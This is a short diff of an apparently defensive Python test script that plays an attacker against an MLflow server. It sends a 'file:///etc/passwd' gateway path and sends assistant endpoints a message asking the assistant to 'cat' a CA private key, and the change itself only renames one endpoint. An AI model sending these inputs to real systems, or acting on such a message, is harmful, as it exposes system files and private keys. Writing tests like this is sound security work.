@@ -225,7 +225,7 @@ def webhook_to_this_machine(a: Attacker) -> None:
 def gateway_and_assistant(a: Attacker) -> None:
     a.post(f"{PAGES_API}/gateway-proxy", {"gateway_path": "file:///etc/passwd", "json_data": {}})
     a.post("/gateway/x/mlflow/invocations", {})
-    for path in ("config", "message", "sessions", "install-skills"):
+    for path in ("config", "message", "contexts", "install-skills"):
         a.post(f"/ajax-api/3.0/mlflow/assistant/{path}", {"message": f"cat {pki(a)}/ca.key"})
     a.post("/ajax-api/3.0/mlflow/gateway/secrets/create", {"secret_name": "s", "secret_value": {"v": "x"}})
 
